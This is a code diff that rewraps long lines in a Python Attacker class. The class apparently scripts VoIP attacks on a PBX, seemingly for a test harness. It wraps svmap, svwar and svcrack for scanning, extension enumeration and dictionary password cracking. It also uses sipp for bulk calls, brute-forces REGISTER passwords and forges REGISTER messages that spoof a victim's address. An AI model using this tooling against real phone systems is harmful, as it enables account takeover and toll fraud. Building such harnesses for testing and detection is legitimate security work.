@@ -44,19 +44,23 @@ class Attacker:
     def svcrack(self, account, words):
         dictionary = self.folder / "words"
         dictionary.write_text("".join(f"{word}\n" for word in words))
-        self.tool("svcrack", "-b", self.address, "-x", self.address, "-p", self.pbx_port, "-u", account, "-d", dictionary, "-t", "0.05", self.pbx)
+        self.tool("svcrack", "-b", self.address, "-x", self.address, "-p", self.pbx_port, "-u", account, "-d", dictionary,
+                  "-t", "0.05", self.pbx)
 
     def svmap(self):
-        self.tool("svmap", "-b", self.address, "-x", self.address, "-p", f"{self.pbx_port}-{self.pbx_port + 5}", "-m", "OPTIONS", f"{self.pbx}/32")
+        self.tool("svmap", "-b", self.address, "-x", self.address, "-p", f"{self.pbx_port}-{self.pbx_port + 5}", "-m",
+                  "OPTIONS", f"{self.pbx}/32")
 
     def svwar(self, method, names):
-        self.tool("svwar", "-b", self.address, "-x", self.address, "-p", self.pbx_port, "-m", method, "-e", names, "--force", self.pbx)
+        self.tool("svwar", "-b", self.address, "-x", self.address, "-p", self.pbx_port, "-m", method, "-e", names, "--force",
+                  self.pbx)
 
     # sipp
     def sipp(self, story, numbers, name, rate=10):
         """Calls the numbers under that name, one call each, as sipp/STORY.xml tells."""
         (self.folder / "numbers.csv").write_text("SEQUENTIAL\n" + "".join(f"{number};{name};\n" for number in numbers))
-        self.tool("sipp", f"{self.pbx}:{self.pbx_port}", "-sf", SIPP / f"{story}.xml", "-inf", "numbers.csv", "-m", len(numbers), "-r", rate,
+        self.tool("sipp", f"{self.pbx}:{self.pbx_port}", "-sf", SIPP / f"{story}.xml", "-inf", "numbers.csv", "-m",
+                  len(numbers), "-r", rate,
                   "-i", self.address, "-nostdin")
 
     # Clients of our own
@@ -73,7 +77,8 @@ class Attacker:
         line, answered = self.speaker(**options), 0
         try:
             for word in words:
-                if not line.ask("REGISTER", f"sip:{line.there}:{self.pbx_port}", to=f"sip:{account}@{line.there}", user=account, password=word, timeout=1.0):
+                if not line.ask("REGISTER", f"sip:{line.there}:{self.pbx_port}", to=f"sip:{account}@{line.there}",
+                                user=account, password=word, timeout=1.0):
                     break
                 answered += 1
                 time.sleep(pause)
@@ -124,12 +129,14 @@ class Attacker:
         challenge = challenge or {"realm": "asterisk", "nonce": "junk", "qop": "auth"}
         uri = f"sip:{self.pbx}:{self.pbx_port}"
         proof = sip.credentials("REGISTER", uri, account, "guess", challenge)
-        self.forge(victim, self.voice.message("REGISTER", uri, to=f"sip:{account}@{self.pbx}", who=account, call=call, number=2, here=f"{victim}:{victim_port}",
+        self.forge(victim, self.voice.message("REGISTER", uri, to=f"sip:{account}@{self.pbx}", who=account, call=call,
+                                              number=2, here=f"{victim}:{victim_port}",
                                               headers=["Expires: 60", f"Authorization: {proof}"]), victim_port)
 
     def challenge(self, account, call, **parts):
         """Asks as itself, and keeps the challenge that comes."""
-        self.voice.send(self.voice.message("REGISTER", f"sip:{self.pbx}:{self.pbx_port}", to=f"sip:{account}@{self.pbx}", who=account, call=call, **parts))
+        self.voice.send(self.voice.message("REGISTER", f"sip:{self.pbx}:{self.pbx_port}", to=f"sip:{account}@{self.pbx}",
+                                           who=account, call=call, **parts))
         answer = self.voice.receive(call, 2)
         return answer.challenge() if answer else None
 
